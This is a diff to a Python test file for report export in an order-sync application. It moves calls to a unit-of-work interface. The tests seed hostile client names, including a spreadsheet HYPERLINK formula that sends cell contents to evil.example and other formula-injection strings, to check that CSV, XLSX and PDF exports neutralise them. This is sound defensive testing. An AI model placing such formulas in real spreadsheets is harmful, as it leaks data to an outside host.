@@ -26,7 +26,9 @@ from carteira_gui.adapters.reports.pdf_report import PdfFonts, load_fonts, write
 from carteira_gui.adapters.sources.json_file import JsonFileSource
 from carteira_gui.bootstrap import App, build_app
 from carteira_gui.domain.errors import CarteiraError, NotFound
-from carteira_gui.domain.parsing import parse_state_document
+from carteira_gui.services.alerts import list_alerts
+from carteira_gui.services.history import find_run, list_runs, run_alerts
+from carteira_gui.services.state import seed_state
 from carteira_gui.services.sync import apply_plan, compute_plan
 
 from ..worked_example import worked_source, worked_state
@@ -34,7 +36,7 @@ from ..worked_example import worked_source, worked_state
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"clique")'
 HOSTILE = (HYPERLINK, "+1", "-2+3", "@SUM(A1)")
 
-# The worked example of DOMAIN.md, with client names an attacker could have typed into Odoo.
+# The worked example of docs/regras.md, with client names an attacker could have typed into Odoo.
 STATE: dict[str, Any] = worked_state(HYPERLINK, "+1", "Distribuidora São João")
 WORKED_SOURCE: list[dict[str, Any]] = worked_source("-2+3")
 # A second sync: a fractional increase and an ALTERADO line whose new client is hostile.
@@ -60,8 +62,8 @@ def _write_json(path: Path, data: object) -> Path:
 
 
 def _sync(app: App, source: Path) -> int:
-    plan, _timings = compute_plan(app.store, JsonFileSource(source), app.options)
-    result = apply_plan(app.store, plan, usuario="ana", allow_mass_removal=True)
+    plan, _timings = compute_plan(app.uow, JsonFileSource(source), app.options)
+    result = apply_plan(app.uow, plan, usuario="ana", allow_mass_removal=True)
     assert result.sync_id is not None
     return result.sync_id
 
@@ -69,7 +71,7 @@ def _sync(app: App, source: Path) -> int:
 @pytest.fixture
 def app(db_url: str) -> Iterator[App]:
     application = build_app(db_url=db_url)
-    application.store.seed(parse_state_document(STATE, "teste"), replace=False)
+    seed_state(application.uow, STATE, "teste", replace=False, db_description="teste")
     try:
         yield application
     finally:
@@ -80,14 +82,14 @@ def app(db_url: str) -> Iterator[App]:
 def worked(app: App, tmp_path: Path) -> ChangeReport:
     """The report of the worked example applied to the database (sync #1 of this database)."""
     run_id = _sync(app, _write_json(tmp_path / "odoo.json", WORKED_SOURCE))
-    return report_from_run(app.store, run_id)
+    return report_of(app.uow, run_id)
 
 
 @pytest.fixture
 def second(app: App, worked: ChangeReport, tmp_path: Path) -> ChangeReport:
     """The latest sync: PED001/PROD001 grows to 1234,5 and PED001/PROD002 gets a hostile client."""
     _sync(app, _write_json(tmp_path / "odoo2.json", SECOND_SOURCE))
-    return report_from_run(app.store, None)
+    return report_of(app.uow, None)
 
 
 @pytest.fixture
@@ -181,7 +183,7 @@ def test_report_of_the_latest_run_by_default_and_of_an_older_run_by_id(
         "data de entrega: (vazio) → 24/12/2026",
         "preço: (vazio) → 12,5",
     )
-    again = report_from_run(app.store, worked.run_id)
+    again = report_of(app.uow, worked.run_id)
     assert again.lines == worked.lines
     assert again.alerts == worked.alerts
 
@@ -190,9 +192,9 @@ def test_a_missing_run_raises_not_found(db_url: str) -> None:
     empty = build_app(db_url=db_url)
     try:
         with pytest.raises(NotFound):
-            report_from_run(empty.store, None)
+            report_of(empty.uow, None)
         with pytest.raises(NotFound, match="99"):
-            report_from_run(empty.store, 99)
+            report_of(empty.uow, 99)
     finally:
         empty.close()
 
@@ -460,7 +462,7 @@ def test_pdf_survives_markup_control_characters_and_very_long_texts(worked: Chan
 
 def test_report_of_a_reviewed_plan_that_is_not_applied(app: App, tmp_path: Path) -> None:
     source = _write_json(tmp_path / "odoo.json", WORKED_SOURCE)
-    plan, _timings = compute_plan(app.store, JsonFileSource(source), app.options)
+    plan, _timings = compute_plan(app.uow, JsonFileSource(source), app.options)
     report = report_from_plan(plan, usuario="bia")
     assert report.run_id is None
     assert not report.applied
@@ -486,8 +488,8 @@ def test_report_of_a_reviewed_plan_that_is_not_applied(app: App, tmp_path: Path)
     assert "PLANO NÃO APLICADO" in text
     assert "plano não aplicado" in text
     # Exporting a plan changes nothing in the database.
-    assert app.store.runs() == []
-    assert app.store.alerts(include_acknowledged=True) == []
+    assert list_runs(app.uow) == []
+    assert list_alerts(app.uow, include_acknowledged=True) == []
 
 
 # -- failures: nothing half-written ------------------------------------------------------------------
@@ -565,3 +567,10 @@ def test_an_unknown_format_is_refused(worked: ChangeReport, out: Path) -> None:
     with pytest.raises(CarteiraError, match=r"'docx' não existe.*csv, xlsx, pdf"):
         write_report(worked, "docx", out / "r.docx")
     assert list(out.iterdir()) == []
+
+
+def report_of(uow, run_id):
+    """The report of a stored run, read as the report use case reads it."""
+    with uow.reading() as session:
+        run = find_run(session, run_id)
+        return report_from_run(run, session.run_changes(run.id), run_alerts(session, run.id))
